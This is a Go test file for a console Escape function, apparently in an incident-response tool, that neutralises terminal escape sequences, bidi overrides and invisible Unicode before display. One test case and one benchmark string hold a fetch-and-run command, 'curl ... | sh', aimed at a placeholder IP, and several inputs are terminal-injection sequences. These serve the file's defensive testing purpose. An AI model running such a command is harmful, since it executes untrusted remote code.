package console

import (
	"strings"
	"testing"
	"unicode"

	"github.com/clawbook/openclaw-ir/internal/inerttest"
	"pgregory.net/rapid"
)

func TestEscape(t *testing.T) {
	for _, test := range []struct{ name, in, want string }{
		{"empty", "", ""},
		{"plain", "curl -s http://198.51.100.7/x | sh", "curl -s http://198.51.100.7/x | sh"},
		{"lines", "a\nb\r\n\tc", `a\nb\r\n\tc`},
		{"backslash", `C:\new`, `C:\\new`},
		{"fake escape", `\x1b`, `\\x1b`},
		{"sgr", "\x1b[31mred", `\x1b[31mred`},
		{"osc 52", "\x1b]52;c;aGk=\a", `\x1b]52;c;aGk=\x07`},
		{"nul and del", "\x00\x7f", `\x00\x7f`},
		{"c1 as a character", "\u009b31m", `\u009b31m`},
		{"c1 as a byte", "\x9b31m", `\x9b31m`},
		{"bidi", "a\u202eb\u2066c\u2069\u200f\u061c", `a\u202eb\u2066c\u2069\u200f\u061c`},
		{"zero width", "a\u200bb\u200cc\u200d\u2060\ufeff", `a\u200bb\u200cc\u200d\u2060\ufeff`},
		{"separators", "a\u2028b\u2029", `a\u2028b\u2029`},
		{"tags", "\U000e0001\U000e0041\U000e007f", `\U000e0001\U000e0041\U000e007f`},
		{"variation selectors", "❤\ufe0f\U000e0100", `❤\ufe0f\U000e0100`},
		{"fillers", "\u3164\u115f\uffa0\u2800\u034f\u00ad", `\u3164\u115f\uffa0\u2800\u034f\u00ad`},
		{"private use", "\ue000", `\ue000`},
		{"surrogate", "\xed\xa0\x80", `\xed\xa0\x80`},
		{"cut rune", "a\xe2\x82", `a\xe2\x82`},
		{"replacement character", "\ufffd", "\ufffd"},
		{"flood of marks", "e" + strings.Repeat("\u0301", 5) + "\u0302x", "e\u0301\u0301\u0301\u0301" + `\u0301\u0302x`},
		{"mark on what is before", "\u0338a", `\u0338a`},
		{"kept", "héllo e\u0301 中文\u3000字 العربية 😀 \U0001fae9", "héllo e\u0301 中文\u3000字 العربية 😀 \U0001fae9"},
		{"late", strings.Repeat("x", 100) + "\x1b", strings.Repeat("x", 100) + `\x1b`},
	} {
		t.Run(test.name, func(t *testing.T) {
			got := Escape(test.in)
			if got != test.want {
				t.Errorf("Escape(%q) = %s, want %s", test.in, got, test.want)
			}
			checkEscape(t, test.in)
		})
	}
}

func checkEscape(t inerttest.TB, s string) {
	escaped := Escape(s)
	inerttest.Line(t, "escaped", escaped)
	back, err := Unescape(escaped)
	if err != nil || back != s {
		t.Fatalf("Unescape(Escape(%q)) = %q, %v", s, back, err)
	}
	shown := string(appendEscaped(nil, s, false))
	inerttest.Line(t, "shown", shown)
}

func TestEscapeEveryRune(t *testing.T) {
	for r := rune(0); r <= unicode.MaxRune; r++ {
		checkEscape(t, string(r))
		if r > 0x20000 && r < 0xe0000 {
			r += 96 // ideographs and unassigned planes: a sample
		}
	}
}

// Every byte at every offset of a word: the eight-byte path and the slow one
// have to agree.
func TestEscapeEveryByteEverywhere(t *testing.T) {
	for length := range 20 {
		for at := range length {
			for b := range 256 {
				in := []byte(strings.Repeat("~", length))
				in[at] = byte(b)
				s := string(in)
				plain := b >= ' ' && b < 0x7f && b != '\\'
				if (Escape(s) == s) != plain {
					t.Fatalf("Escape(%q) = %q", s, Escape(s))
				}
				checkEscape(t, s)
			}
		}
	}
}

func TestEscapeProperties(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		s := rapid.OneOf(
			rapid.Custom(func(t *rapid.T) string { return string(rapid.SliceOf(rapid.Byte()).Draw(t, "bytes")) }),
			rapid.String(),
			rapid.StringOf(rapid.RuneFrom([]rune(`\nxuU0a1`+"\n\x1b\u202e\U000e0041é"))),
		).Draw(t, "s")
		checkEscape(t, s)
	})
}

func TestUnescapeRefuses(t *testing.T) {
	for _, s := range []string{`\`, `a\`, `\q`, `\x`, `\x1`, `\xzz`, `\u12`, `\ud800`, `\U00110000`, `\Uffffffff`, `\x+1`, `\é`} {
		if got, err := Unescape(s); err == nil {
			t.Errorf("Unescape(%q) = %q, want an error", s, got)
		}
	}
}

func FuzzEscape(f *testing.F) {
	f.Add("\x1b[2J\u202e\\")
	f.Fuzz(func(t *testing.T, s string) { checkEscape(t, s) })
}

func FuzzUnescape(f *testing.F) {
	f.Add(`\x1b\u202e\\`)
	f.Fuzz(func(t *testing.T, s string) {
		if plain, err := Unescape(s); err == nil {
			checkEscape(t, plain)
		}
	})
}

func TestEscapeDoesNotAllocate(t *testing.T) {
	s := strings.Repeat("plain ASCII text; ", 10)
	if n := testing.AllocsPerRun(100, func() { _ = Escape(s) }); n != 0 {
		t.Errorf("%v allocations for plain text", n)
	}
	buf := make([]byte, 0, 4096)
	if n := testing.AllocsPerRun(100, func() { _ = AppendEscape(buf, "\x1b[31m é \u202e") }); n != 0 {
		t.Errorf("%v allocations for AppendEscape", n)
	}
}

func BenchmarkEscape(b *testing.B) {
	for name, s := range map[string]string{
		"ascii":   strings.Repeat("curl -s http://198.51.100.7/x | sh ", 30),
		"cjk":     strings.Repeat("日本語のテキスト", 40),
		"hostile": strings.Repeat("\x1b[31m\u202e", 120),
	} {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(s)))
			for b.Loop() {
				Escape(s)
			}
		})
	}
}
